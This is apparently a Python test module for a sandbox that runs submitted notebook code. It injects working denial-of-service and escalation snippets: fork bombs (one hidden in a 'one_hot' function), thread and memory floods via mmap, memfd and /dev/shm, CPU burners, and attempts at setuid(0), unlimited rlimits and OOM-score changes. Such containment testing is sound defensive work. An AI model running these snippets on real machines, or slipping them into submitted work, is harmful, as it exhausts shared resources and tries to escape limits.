"""What takes more than its share of the machine.

Each is bounded, so that a marker without limits survives it. ``TOOK`` is what a case got, in MiB.
"""

from attacks import Scene, Work, case

AMOUNT = 4000
"""MiB that the greedy cases ask for at most."""


def guard(scene: Scene) -> str:
    """Code that stops a cell which is not locked in: what follows would harm the machine."""
    return f"""
import os, signal, subprocess, sys, time

try:
    marker = open("/proc/{scene.pid}/cmdline", "rb").read()
except OSError:
    marker = b""
if os.path.exists({str(scene.root)!r}) or b"pytest" in marker:
    print("NOT JAILED")
    raise SystemError("NOT JAILED")
"""


GREEDY = f"""
import mmap, os

taken, ones = [], b"1" * (64 << 20)


def take(one_more, size=64, most={AMOUNT}):
    \"\"\"Take memory in pieces of ``size`` MiB and say how much.\"\"\"
    try:
        while len(taken) * size < most:
            taken.append(one_more(size << 20))
    except (MemoryError, OSError, RuntimeError) as error:
        print(type(error).__name__)
    finally:
        print("TOOK", len(taken) * size, flush=True)


def hidden(space):
    # Its pages stay, but this process no longer shows them.
    space.write(ones)
    space.madvise(mmap.MADV_DONTNEED)
    return space
"""


@case("harm", none="one-hot", reports="processes died time")
def fork_bomb(work: Work):
    work.answer(
        "one-hot",
        """
        import os, time

        def one_hot(labels, num_classes):
            for _ in range(300):
                if os.fork() == 0:
                    time.sleep(20)
                    os._exit(0)
            time.sleep(3)
        """,
    )


@case("harm", reports="processes died")
def fork_bomb_of_all_children(work: Work):
    """Children fork too, up to 2 ** 8 of them; each leaves the session of its parent."""
    work.add(
        guard(work.scene)
        + """
for _ in range(8):
    if os.fork() == 0:
        os.setsid()
if os.getpid() != 1:
    time.sleep(20)
    os._exit(0)
time.sleep(2)
""",
        before="inject-label",
    )


@case("harm", reports="processes died time")
def threads_without_number(work: Work):
    work.add(
        guard(work.scene)
        + """
import threading

started = []
try:
    for _ in range(3000):
        started.append(threading.Thread(target=time.sleep, args=(20,), daemon=True))
        started[-1].start()
except RuntimeError:
    pass
time.sleep(1)
os._exit(1)
""",
        before="inject-label",
    )


@case("harm", none="one-hot")
def memory_bomb(work: Work):
    work.extend("one-hot", above=GREEDY)
    work.extend(
        "one-hot",
        below="""
        def one_hot(labels, num_classes):
            take(lambda size: torch.ones(size, dtype=torch.uint8))
        """,
    )


@case("harm")
def memory_that_is_shared(work: Work):
    """Shared memory without a file counts in no process's own share, and in none at all."""
    work.add(
        GREEDY
        + """

take(lambda size: hidden(mmap.mmap(-1, size)))
zero = os.open("/dev/zero", os.O_RDWR)
take(lambda size: hidden(mmap.mmap(zero, size)))
""",
        before="inject-label",
    )


@case("harm")
def memory_of_files(work: Work):
    """memfd_create and /dev/shm are memory, too."""
    work.add(
        GREEDY
        + """

def file_in_memory(size):
    descriptor = os.memfd_create("attack")
    os.write(descriptor, bytes(size))
    return descriptor


def shared_file(size):
    with open(f"/dev/shm/attack-{len(taken)}", "wb") as file:
        file.write(bytes(size))
    return file


take(file_in_memory)
take(shared_file)
""",
        before="inject-label",
    )


@case("harm")
def memory_of_children(work: Work):
    """Each process stays small; together they are not."""
    work.add(
        guard(work.scene)
        + GREEDY
        + """

for _ in range(16):
    if os.fork() == 0:
        space = bytearray(300 << 20)
        space[::4096] = b"1" * len(space[::4096])
        time.sleep(10)
        os._exit(0)
time.sleep(4)
""",
        before="inject-label",
    )


@case("harm")
def threads_that_compute_on(work: Work):
    """They go on while the rest of the notebook is marked."""
    work.add(
        """
        import threading

        def burn():
            a = torch.rand(300, 300)
            while True:
                a = (a @ a).softmax(0)

        for _ in range(6):
            threading.Thread(target=burn, daemon=True).start()
        """,
        before="class-weights",
    )


@case("harm", says="ASKED", group="reach")
def priorities_and_the_clock(work: Work):
    work.add(
        guard(work.scene)
        + """
import ctypes, resource

asked = {
    "nice": lambda: os.nice(-10),
    "realtime": lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)),
    "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()),
    "limits": lambda: resource.setrlimit(
        resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
    "processes": lambda: resource.setrlimit(
        resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)),
    "root": lambda: os.setuid(0),
    "host name": lambda: __import__("socket").sethostname("attack"),
    "score": lambda: open("/proc/self/oom_score_adj", "w").write("-1000\\n"),
}
for name, ask in asked.items():
    try:
        ask()
        print("WROTE", name)
    except (OSError, ValueError):
        pass
print("ASKED")
""",
        before="inject-label",
    )


@case("harm")
def a_dozen_deaths(work: Work):
    """Each kernel ends at once; those after it start where it ended."""
    for number in range(12):
        work.add(f"import os\n\nos._exit({number})", before="inject-label")
